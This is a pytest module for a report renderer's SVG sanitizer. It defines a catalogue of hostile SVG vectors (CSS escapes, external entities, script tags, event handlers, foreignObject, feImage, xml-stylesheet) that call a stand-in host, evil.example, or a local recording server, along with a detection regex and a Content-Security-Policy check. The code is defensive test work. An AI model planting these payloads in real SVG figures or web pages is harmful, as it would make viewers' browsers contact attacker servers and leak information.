"""Reports that cannot call out, even rendered from a tampered ``results.json``.

A third-party figure's SVG is attacker-controlled text. Each vector below once reached
(or could reach) the page; the sanitizer (reports/svg.py) must remove or refuse them
all, the page must carry a CSP that forbids every external load, and opening the
rendered report in Chromium, or printing it with WeasyPrint, must make zero requests
to a server whose URL is in every vector and in every user string of the results.

The tests build their results by hand (schema ``audit-results/1``, no helper from
other test modules), so the same file runs against older revisions of ``reports``.
"""

from __future__ import annotations

import base64
import html as html_lib
import re
import shutil
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

import reports
from reports.pdf import make_url_fetcher, pdf_bytes

SVG_OPEN = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
            'width="120" height="60" viewBox="0 0 120 60">')

# name -> SVG body; {u} is the base URL every vector points at. Each is a way a figure
# could make its viewer (a browser, WeasyPrint) fetch something.
VECTORS: dict[str, str] = {
    "css-escape": '<rect width="9" height="9" style="fill:\\75 rl({u}/css-escape)"/>'
                  '<rect width="9" height="9" style="background-image:\\000075\\000072\\00006c({u}/css-escape2)"/>',
    "css-escape-in-name": '<rect width="9" height="9" style="fi\\6c l:url({u}/css-escape-name)"/>',
    "css-comment": '<rect width="9" height="9" style="fill:u/**/rl({u}/css-comment)"/>',
    "char-reference": '<rect width="9" height="9" style="fill:&#x75;rl({u}/charref)"/>',
    "url-in-style": '<rect width="9" height="9" style="fill:url({u}/style-url); stroke:#000"/>',
    "url-upper-case": '<rect width="9" height="9" style="fill:URL(\'{u}/upper\')"/>',
    "url-in-attribute": '<rect width="9" height="9" fill="url({u}/fill)" mask="url( \'{u}/mask\' )"/>',
    "url-scheme-relative": '<rect width="9" height="9" clip-path="url(//{h}/scheme-relative)"/>',
    "url-data-svg": '<rect width="9" height="9" filter="url(data:image/svg+xml,&lt;svg/&gt;)"/>',
    "cursor": '<rect width="9" height="9" style="cursor:url({u}/cursor.png), auto" cursor="url({u}/cursor2)"/>',
    "image-set": '<rect width="9" height="9" style="fill:image-set(\'{u}/image-set.png\' 1x)"/>',
    "webkit-image-set": '<rect width="9" height="9" style="fill:-webkit-image-set(url({u}/wk-image-set) 1x)"/>',
    "webkit-property": '<rect width="9" height="9" style="-webkit-mask-image:url({u}/wk-mask); '
                       '-webkit-mask:url({u}/wk-mask2)"/>',
    "expression": '<rect width="9" height="9" style="width:expression(fetch(\'{u}/expression\'))"/>',
    "import-in-style": '<rect width="9" height="9" style="@import \'{u}/import-attr.css\'; fill:red"/>',
    "style-element": '<style>@import url({u}/import.css); rect{{fill:url({u}/style-el)}} '
                     '@font-face{{font-family:x; src:url({u}/font.woff)}} text{{font-family:x}}</style>',
    "style-cdata": '<style><![CDATA[rect{{background:url({u}/cdata)}}]]></style>',
    "foreign-object": '<foreignObject width="50" height="50"><div xmlns="http://www.w3.org/1999/xhtml">'
                      '<img src="{u}/fo-img.png"/><iframe src="{u}/fo-iframe"></iframe>'
                      '<link rel="stylesheet" href="{u}/fo-link.css"/></div></foreignObject>',
    "xhtml-namespace": '<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="{u}/xhtml-img.png"/>'
                       '<h:image xmlns:h="http://www.w3.org/1999/xhtml" href="{u}/xhtml-image.png"/>',
    "script": '<script href="{u}/script-href.js"/><script xlink:href="{u}/script-xlink.js"/>'
              '<script>fetch("{u}/script-inline")</script>',
    "event-handler": '<rect width="9" height="9" onload="fetch(\'{u}/onload\')" onclick="fetch(\'{u}/onclick\')" '
                     'ONMOUSEOVER="fetch(\'{u}/onmouseover\')"/>',
    "image-href": '<image width="9" height="9" href="{u}/image-href.png"/>'
                  '<image width="9" height="9" xlink:href="{u}/image-xlink.png"/>'
                  '<image width="9" height="9" href=" {u}/image-space.png"/>',
    "image-relative": '<image width="9" height="9" href="image-relative.png"/>',
    "image-nested-svg": '<image width="9" height="9" href="data:image/svg+xml;base64,{nested}"/>',
    "use-external": '<use href="{u}/sprite.svg#icon"/><use xlink:href="{u}/sprite2.svg#icon"/>',
    "pattern-href": '<pattern id="p" href="{u}/pattern.svg#p"/><linearGradient id="lg" xlink:href="{u}/grad.svg#g"/>',
    "anchor": '<a href="{u}/anchor"><rect width="9" height="9"/></a>'
              '<a xlink:href="javascript:fetch(\'{u}/anchor-js\')"><rect width="9" height="9"/></a>',
    "animate-set": '<use href="#keep"><set attributeName="href" to="{u}/set"/>'
                   '<animate attributeName="href" values="{u}/animate"/></use>'
                   '<animateTransform attributeName="transform" type="rotate" to="{u}/animate-transform"/>',
    "filter-feimage": '<filter id="f"><feImage href="{u}/feimage.png"/></filter>'
                      '<rect width="9" height="9" filter="url(#f)"/>',
    "xml-base": '<g xml:base="{u}/"><image width="9" height="9" href="xml-base.png"/></g>',
    "processing-instruction": '<?xml-stylesheet href="{u}/pi-inner.css"?>',
}
# Whole documents: a document type, entities and a style sheet before the root.
DOCUMENTS: dict[str, str] = {
    "entity-external": '<!DOCTYPE svg [<!ENTITY x SYSTEM "{u}/entity">]>' + SVG_OPEN + '<text>&x;</text></svg>',
    "entity-internal": '<!DOCTYPE svg [<!ENTITY x "<image href=\'{u}/entity-expand.png\'/>">]>'
                       + SVG_OPEN + '&x;</svg>',
    "dtd-external": '<!DOCTYPE svg SYSTEM "{u}/external.dtd">' + SVG_OPEN + '<rect width="1" height="1"/></svg>',
    "xml-stylesheet": '<?xml version="1.0"?><?xml-stylesheet type="text/css" href="{u}/pi.css"?>'
                      + SVG_OPEN + '<rect width="1" height="1"/></svg>',
}
# What a drawing needs, which must survive next to the vectors.
KEEP = ('<defs><clipPath id="c"><rect width="10" height="10"/></clipPath></defs>'
        '<rect id="keep" width="5" height="5" fill="#0072B2" clip-path="url(#c)" style="stroke: #000"/>'
        '<use xlink:href="#keep"/><image width="2" height="2" href="data:image/png;base64,iVBORw0KGgo="/>')


def _fill(template: str, base: str) -> str:
    host = base.split("://", 1)[1]
    nested = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{base}/nested.png"/></svg>'
                              .encode()).decode()
    return template.format(u=base, h=host, nested=nested)


def vector_svg(name: str, base: str) -> str:
    """One figure: the vector `name` next to what a drawing needs."""
    if name in DOCUMENTS:
        return _fill(DOCUMENTS[name], base)
    return SVG_OPEN + KEEP + _fill(VECTORS[name], base) + "</svg>"


def tampered_svg(base: str) -> str:
    """One figure carrying every in-document vector."""
    return SVG_OPEN + KEEP + "".join(_fill(v, base) for v in VECTORS.values()) + "</svg>"


def tampered_results(base: str, svgs: list[str] | None = None) -> dict[str, Any]:
    """Results as ``audit render`` might be handed them: `base` in the figure SVG (every
    vector, unless `svgs` are given) and in the user strings (name, standard, clause,
    message, a table cell, ...)."""
    if svgs is None:
        svgs = [tampered_svg(base)] + [_fill(doc, base) for doc in DOCUMENTS.values()]
    tag = f'<img src="{base}/text-img"><link rel="stylesheet" href="{base}/text-link.css">'
    figures = [{"type": "figure", "title": f"Third-party figure {i}", "caption": f"{tag} caption", "svg": svg}
               for i, svg in enumerate(svgs)]
    return {
        "schema": "audit-results/1",
        "name": f"Tampered {tag} {base}/name",
        "standard": f"{base}/standard {tag}",
        "verdict": "non-compliant",
        "summary": {"pass": 0, "warn": 0, "fail": 1, "error": 0, "skipped": 0},
        "checks": [{
            "id": "third-party", "check": "thirdparty.figure", "version": 1, "area": "evaluation",
            "clause": f'<a href="{base}/clause">4.1</a> {base}/clause {tag}',
            "status": "fail",
            "metrics": {"score": {"value": 0.5, "ci": [0.4, 0.6]}},
            "thresholds": [{"metric": "score", "op": "min", "limit": 0.9, "level": "must", "status": "fail"}],
            "message": f"score below {base}/message {tag}",
            "evidence": [
                {"type": "table", "title": f"Table {tag}", "columns": ["cell", f"{base}/column"],
                 "rows": [[f"{tag} {base}/cell", 1.0]]},
                {"type": "text", "title": "Note", "text": f"{tag} {base}/text"},
                *figures,
            ],
            "duration_s": 0.1,
            "traceback": None,
        }],
        "provenance": {"seed": 0, "device": "cpu", "spec": f"name: {tag}",
                       "versions": {"python": "3", "audit": "0.1.0"}},
    }


def figure_svgs(page: str) -> list[str]:
    """The decoded SVG of every ``data:image/svg+xml`` image in the page."""
    return [base64.b64decode(m).decode("utf-8")
            for m in re.findall(r'src="data:image/svg\+xml;base64,([A-Za-z0-9+/=]+)"', page)]


# Anything in a figure by which it could reach outside, or that the sanitizer must drop.
_EXTERNAL = re.compile(
    r"url\((?!#)|url\(\s*['\"](?!#)|image-set|@import|expression\(|\\|/\*|://|javascript:|"
    r"<(style|script|foreignObject|a|animate\w*|set|feImage|filter|iframe|link|img)\b|"
    r"\son\w+=|xml:base|<!DOCTYPE|<!ENTITY|<\?xml-stylesheet|"
    r"""\shref=["'](?!#|data:image/(png|jpeg|gif|webp);base64,)""", re.I)


def external_reference(svg: str) -> str | None:
    svg = svg.replace('xmlns="http://www.w3.org/2000/svg"', "")
    m = _EXTERNAL.search(svg)
    return m.group(0) if m else None


# --------------------------------------------------------------------------- the sanitizer

BASE = "http://evil.example:8000"


@pytest.mark.parametrize("name", [*VECTORS, *DOCUMENTS])
def test_each_svg_vector_is_removed_from_the_rendered_report(name):
    # The user strings name another host, so that any "evil.example" is the figure's.
    page = reports.render_html(tampered_results("http://text.example", [vector_svg(name, BASE)]))
    svgs = figure_svgs(page)
    assert "evil.example" not in page and not any("evil.example" in svg for svg in svgs), page
    assert "<svg" not in page, "figures must be <img> data: images, never inline markup"
    for svg in svgs:
        assert external_reference(svg) is None, (external_reference(svg), svg)
        if name not in DOCUMENTS:  # what a drawing needs survives next to the vector
            assert 'id="keep"' in svg and 'clip-path="url(#c)"' in svg and 'href="#keep"' in svg
            assert 'href="data:image/png;base64,iVBORw0KGgo="' in svg
    if name in ("entity-external", "entity-internal"):
        assert not svgs and "figure SVG declares a document type or entities" in page  # refused, not expanded
    else:
        assert len(svgs) == 1


def test_tampered_report_names_nothing_external():
    page = reports.render_html(tampered_results(BASE))
    # The user strings are on the page as escaped text; no element or attribute names the host.
    assert "<svg" not in page
    for attr in re.findall(r"""\s(?:src|href|srcset|action|poster|data|xlink:href)\s*=\s*("[^"]*"|'[^']*')""", page):
        value = attr[1:-1]
        assert value.startswith("#") or value.startswith("data:image/svg+xml;base64,"), value
    assert not re.search(r"<(script|link|base|iframe|object|embed|form)\b", page, re.I)
    assert not re.search(r"<img\s[^>]*src=\"(?!data:image/svg\+xml;base64,)", page)
    text = html_lib.unescape(re.sub(r"<[^>]*>", "", page))
    assert f"{BASE}/name" in text and f"{BASE}/cell" in text and f"{BASE}/message" in text  # shown as text
    svgs = figure_svgs(page)
    assert len(svgs) == 1 + len(DOCUMENTS) - 2  # the two entity documents are refused
    for svg in svgs:
        assert "evil.example" not in svg and external_reference(svg) is None, svg


def _csp(page: str) -> dict[str, list[str]]:
    metas = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)
    assert len(metas) == 1
    policy: dict[str, list[str]] = {}
    for part in html_lib.unescape(metas[0]).split(";"):
        name, *sources = part.split()
        policy[name] = sources
    return policy


def test_csp_forbids_every_external_load():
    page = reports.render_html(tampered_results(BASE))
    head = page[:page.index("</head>")]
    # The policy governs only what comes after it: it is the first thing after the charset.
    assert re.match(r"\s*<!DOCTYPE html>\s*<html[^>]*>\s*<head>\s*<meta charset=\"utf-8\">\s*"
                    r"<meta http-equiv=\"Content-Security-Policy\"", page)
    assert "<meta http-equiv=\"Content-Security-Policy\"" in head
    policy = _csp(page)
    assert policy["default-src"] == ["'none'"]
    assert policy["img-src"] == ["data:"]
    assert policy["base-uri"] == ["'none'"] and policy["form-action"] == ["'none'"]
    assert "script-src" not in policy and "script-src-elem" not in policy
    for name, sources in policy.items():  # no directive allows any host, scheme but data:, or script
        for s in sources:
            assert s in ("'none'", "data:") or (name == "style-src" and s == "'unsafe-inline'"), (name, s)


# --------------------------------------------------------------------------- live: a server that records


@dataclass
class Recorder:
    """A local HTTP server that records the path of every request it receives."""

    base: str
    requests: list[str] = field(default_factory=list)

    def take(self) -> list[str]:
        out, self.requests[:] = list(self.requests), []
        return out


@pytest.fixture
def recorder() -> Iterator[Recorder]:
    rec = Recorder(base="")
    gif = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")

    class Handler(BaseHTTPRequestHandler):
        def _record(self) -> None:
            rec.requests.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/gif")
            self.send_header("Content-Length", str(len(gif)))
            self.end_headers()
            if self.command != "HEAD":
                self.wfile.write(gif)

        do_GET = do_POST = do_HEAD = do_OPTIONS = _record

        def log_message(self, *args: Any) -> None:  # keep the test output clean
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    rec.base = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield rec
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def find_chromium() -> str | None:
    for name in ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable", "chrome"):
        path = shutil.which(name)
        if path:
            return path
    return None


def open_in_chromium(binary: str, page: Path, profile: Path) -> str:
    """Open `page` as a user would (file://), let it load, and return the DOM."""
    cmd = [binary, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
           f"--user-data-dir={profile}", "--virtual-time-budget=3000", "--dump-dom", page.as_uri()]
    proc = subprocess.run(cmd, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr[-2000:]
    return proc.stdout


def test_tampered_report_makes_no_requests_in_chromium(recorder, tmp_path):
    binary = find_chromium()
    if binary is None:
        pytest.skip("no chromium, chromium-browser or google-chrome binary on PATH")
    base = recorder.base
    profile = tmp_path / "profile"

    # Control 1: the server and this way of opening a page do see a plain external image.
    control = tmp_path / "control.html"
    control.write_text(f'<!DOCTYPE html><html><body><img src="{base}/control"></body></html>')
    open_in_chromium(binary, control, profile)
    assert recorder.take() == ["/control"]

    # Control 2: the vectors are live. The tampered SVG inlined as markup, as ce50ff5
    # embedded figures, in a page without a CSP, makes Chromium call out.
    raw = tmp_path / "raw.html"
    raw.write_text(f"<!DOCTYPE html><html><body>{tampered_svg(base)}</body></html>")
    open_in_chromium(binary, raw, profile)
    assert len(recorder.take()) >= 3

    # The report rendered from the tampered results: zero requests.
    page = reports.render_html(tampered_results(base))
    report = tmp_path / "report.html"
    report.write_text(page, encoding="utf-8")
    dom = open_in_chromium(binary, report, profile)
    assert "Third-party figure 0" in dom and "Compliance matrix" in dom  # it did load
    assert recorder.take() == []

    # The sanitizer alone: the report's figures inlined as markup in a page without a CSP
    # (no <img> isolation, no policy) still make zero requests.
    inline = tmp_path / "inline.html"
    inline.write_text("<!DOCTYPE html><html><body>" + "".join(figure_svgs(page)) + "</body></html>",
                      encoding="utf-8")
    open_in_chromium(binary, inline, profile)
    assert recorder.take() == []


def test_tampered_report_makes_no_requests_in_weasyprint(recorder, tmp_path):
    from weasyprint import HTML

    base = recorder.base
    # Control: WeasyPrint with its own (permissive) fetcher does reach the server.
    HTML(string=f'<img src="{base}/pdf-control">', base_url=tmp_path.as_uri() + "/").write_pdf()
    assert recorder.take() == ["/pdf-control"]
    # ... and so do the vectors, inlined as markup.
    HTML(string=f"<html><body>{tampered_svg(base)}</body></html>", base_url=tmp_path.as_uri() + "/").write_pdf()
    assert recorder.take() != []

    page = reports.render_html(tampered_results(base))
    # The report's PDF, as `audit render` makes it: nothing requested, nothing even refused.
    fetcher = make_url_fetcher(tmp_path)
    pdf = pdf_bytes(page, tmp_path, fetcher)
    assert pdf.startswith(b"%PDF")
    assert recorder.take() == []
    assert fetcher.refused == [], fetcher.refused
    # The page names nothing external, whatever fetcher prints it: WeasyPrint's own as well.
    HTML(string=page, base_url=tmp_path.as_uri() + "/").write_pdf()
    assert recorder.take() == []
